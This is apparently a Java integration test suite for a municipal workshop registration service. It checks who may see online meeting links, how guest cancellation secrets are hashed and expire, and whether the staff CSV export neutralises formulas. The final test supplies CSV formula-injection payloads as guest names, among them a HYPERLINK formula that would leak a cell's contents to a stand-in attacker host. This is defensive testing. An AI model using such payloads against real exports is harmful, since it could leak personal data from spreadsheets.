package de.norderstedt.go.workshops;

import de.norderstedt.go.platform.testing.TestAmbassadors;
import de.norderstedt.go.platform.testing.TestInfra;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.nullValue;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * What belongs to one person stays theirs: the link into an online meeting only for a confirmed
 * online place and the programme team; a guest's secret is hashed at rest and expires after the
 * event; the registrations CSV that staff open in a spreadsheet runs no formula from a guest.
 */
@QuarkusTest
@WorkshopsTest
class PersonalLinksTest {

    private static final String MEETING = "https://meet.norderstedt.de/go-werkstatt-7f3a";

    private static String onlineWorkshop(String audience, int onlinePlaces) {
        Map<String, Object> body = Fixtures.kickOff(5, onlinePlaces);
        body.put("title", "Expert*innen-Werkstatt Mobilität");
        body.put("audience", audience);
        body.put("meetingUrl", MEETING);
        return Fixtures.open(body);
    }

    @Test
    void theMeetingLinkIsOnlyForConfirmedOnlinePlacesAndStaff() {
        String id = onlineWorkshop("AMBASSADORS", 1);
        String staff = Fixtures.staff();
        given().auth().oauth2(staff).get(Fixtures.WORKSHOPS + "/" + id).then().statusCode(200).body("meetingUrl", is(MEETING));

        // Public lists, the single workshop, the report and both calendar files: no link, for nobody outside.
        TestAmbassadors.Ambassador online = TestAmbassadors.active("Ole Online", true);
        TestAmbassadors.Ambassador waiting = TestAmbassadors.active("Wiebke Warteliste", true);
        TestAmbassadors.Ambassador onSite = TestAmbassadors.active("Vor Ort", false);
        for (String token : new String[]{null, online.token(), onSite.token()}) {
            List<Map<String, Object>> listed = Fixtures.everyListed(token);
            assertTrue(listed.stream().anyMatch(w -> id.equals(w.get("id"))), "the workshop is listed");
            assertFalse(listed.toString().contains(MEETING));
            (token == null ? given() : given().auth().oauth2(token)).get(Fixtures.WORKSHOPS + "/" + id).then().statusCode(200)
                    .body("meetingUrl", nullValue());
            (token == null ? given() : given().auth().oauth2(token)).get(Fixtures.WORKSHOPS + "/" + id + "/report").then()
                    .statusCode(200).body("workshop.meetingUrl", nullValue());
        }
        assertFalse(given().get(Fixtures.WORKSHOPS + "/" + id + "/calendar.ics").then().statusCode(200).extract().asString().contains("meet.norderstedt"));
        assertFalse(given().get(Fixtures.WORKSHOPS + "/calendar.ics").then().statusCode(200).extract().asString().contains("meet.norderstedt"));

        // The confirmed online place gets it with the registration; the waitlist and on-site do not.
        register(online, id, "ONLINE").body("status", is("CONFIRMED")).body("meetingUrl", is(MEETING));
        register(waiting, id, "ONLINE").body("status", is("WAITLISTED")).body("meetingUrl", nullValue());
        register(onSite, id, "ON_SITE").body("status", is("CONFIRMED")).body("meetingUrl", nullValue());
        given().auth().oauth2(online.token()).get(Fixtures.WORKSHOPS + "/" + id + "/registrations/mine").then().statusCode(200)
                .body("meetingUrl", is(MEETING));
        given().auth().oauth2(waiting.token()).get(Fixtures.WORKSHOPS + "/" + id + "/registrations/mine").then().statusCode(200)
                .body("meetingUrl", nullValue());
        // When the online place is given back, the next on the waitlist gets the link.
        given().auth().oauth2(online.token()).delete(Fixtures.WORKSHOPS + "/" + id + "/registrations/mine").then().statusCode(200)
                .body("meetingUrl", nullValue());
        given().auth().oauth2(waiting.token()).get(Fixtures.WORKSHOPS + "/" + id + "/registrations/mine").then().statusCode(200)
                .body("status", is("CONFIRMED")).body("meetingUrl", is(MEETING));
        assertFalse(Fixtures.everyListed(online.token()).toString().contains(MEETING));
    }

    @Test
    void aGuestSeesTheMeetingLinkThroughTheirOwnLinkOnlyOnceTheyConfirmedTheirAddress() {
        String id = onlineWorkshop("PUBLIC", 1);
        // The place is held at once, but the meeting link waits until the address is confirmed.
        String confirmed = Fixtures.guest(id, "Gesa Gast", "ONLINE").then().statusCode(201)
                .body("status", is("CONFIRMED")).body("meetingUrl", nullValue()).body("verifyBy", notNullValue())
                .extract().path("cancelToken");
        String waiting = Fixtures.guest(id, "Hein Hinten", "ONLINE").then().statusCode(201)
                .body("status", is("WAITLISTED")).body("meetingUrl", nullValue()).extract().path("cancelToken");
        given().header("Guest-Token", confirmed).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(200)
                .body("name", is("Gesa Gast")).body("meetingUrl", nullValue()).body("verifiedAt", nullValue());
        // The secret of the cancellation link (which the registration answered) does not confirm the address.
        given().header("Guest-Token", confirmed).post(Fixtures.WORKSHOPS + "/guest-registrations/mine/verification").then()
                .statusCode(404);

        Fixtures.verifyGuest(Fixtures.email("Gesa Gast")).body("meetingUrl", is(MEETING)).body("verifiedAt", notNullValue())
                .body("verifyBy", nullValue());
        given().header("Guest-Token", confirmed).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(200)
                .body("name", is("Gesa Gast")).body("meetingUrl", is(MEETING)).body("linkExpiresAt", is("2031-09-30T21:00:00+02:00"));
        Fixtures.verifyGuest(Fixtures.email("Hein Hinten")).body("status", is("WAITLISTED")).body("meetingUrl", nullValue());
        given().header("Guest-Token", waiting).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(200)
                .body("meetingUrl", nullValue());
        given().get(Fixtures.WORKSHOPS + "/" + id).then().body("meetingUrl", nullValue());
    }

    @Test
    void aGuestSecretIsHashedAtRestNeverInThePathAndExpiresAWeekAfterTheEvent() {
        String id = Fixtures.open(Fixtures.kickOff(5, 5));
        String secret = Fixtures.guest(id, "Frida Frist", "ON_SITE").then().statusCode(201).extract().path("cancelToken");
        assertEquals(0, TestInfra.count("select count(*) from registration where cancel_token = ?", secret), "the secret is not stored");
        assertEquals(1, TestInfra.count("select count(*) from registration where cancel_token = encode(sha256(convert_to(?, 'UTF8')), 'hex')", secret));
        String verification = Fixtures.verifySecret(Fixtures.email("Frida Frist"));
        assertEquals(0, TestInfra.count("select count(*) from registration where guest_verify_token = ?", verification),
                "the secret of the verification link is not stored either");
        assertEquals(1, TestInfra.count("select count(*) from registration where guest_verify_token = encode(sha256(convert_to(?, 'UTF8')), 'hex')",
                verification));

        given().get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(400).contentType("application/problem+json")
                .body("violations[0].field", is("Guest-Token"));
        given().header("Guest-Token", "x".repeat(32)).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(404);
        // The old shape, with the secret in the path, is gone (paths end up in access logs).
        given().get(Fixtures.WORKSHOPS + "/guest-registrations/" + secret).then().statusCode(not(is(200)));
        given().header("Guest-Token", secret).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(200)
                .body("name", is("Frida Frist"));

        // Eight days after the event the link is dead, for looking and for cancelling.
        TestInfra.execute("update workshop set starts_at = now() - interval '8 days 3 hours', ends_at = now() - interval '8 days' where id = ?::uuid", id);
        given().header("Guest-Token", secret).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(404)
                .contentType("application/problem+json").body("detail", containsString("expired"));
        given().header("Guest-Token", secret).delete(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(404);
        assertEquals("CONFIRMED", TestInfra.query("select status from registration where workshop_id = ?::uuid", id).get(0).get("status"));
        // Six days after: still valid.
        TestInfra.execute("update workshop set starts_at = now() - interval '6 days 3 hours', ends_at = now() - interval '6 days' where id = ?::uuid", id);
        given().header("Guest-Token", secret).get(Fixtures.WORKSHOPS + "/guest-registrations/mine").then().statusCode(200);
    }

    @Test
    void theRegistrationsCsvRunsNoFormulaFromAGuest() throws Exception {
        String id = Fixtures.open(Fixtures.kickOff(10, 10));
        List<String> hostile = List.of("=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klick\")", "+49 40 1234", "-2+3", "@SUM(A1:A9)",
                "Anna;=1+1", "Normale Person");
        for (String name : hostile) {
            given().contentType(ContentType.JSON).body(Map.of("name", name, "email", "gast" + Math.abs(name.hashCode()) + "@example.org", "mode", "ON_SITE"))
                    .post(Fixtures.WORKSHOPS + "/" + id + "/guest-registrations").then().statusCode(201);
        }
        String csv = given().auth().oauth2(Fixtures.staff()).get(Fixtures.WORKSHOPS + "/" + id + "/registrations.csv").then().statusCode(200)
                .extract().asString();
        List<String> names = org.apache.commons.csv.CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new java.io.StringReader(csv)).stream().map(r -> r.get("name")).toList();
        assertEquals(List.of("'=HYPERLINK(\"https://evil.example/?leak=\"&A2,\"Klick\")", "'+49 40 1234", "'-2+3", "'@SUM(A1:A9)",
                "Anna;=1+1", "Normale Person"), names);
        assertTrue(csv.contains("\"Anna;=1+1\""), "quoted, so a spreadsheet splitting on ';' keeps it one cell: " + csv);
        assertTrue(names.stream().noneMatch(n -> n.startsWith("=") || n.startsWith("+") || n.startsWith("-") || n.startsWith("@")));
    }

    private static io.restassured.response.ValidatableResponse register(TestAmbassadors.Ambassador who, String id, String mode) {
        return given().auth().oauth2(who.token()).contentType(ContentType.JSON).body(Map.of("mode", mode))
                .post(Fixtures.WORKSHOPS + "/" + id + "/registrations").then().statusCode(201);
    }
}
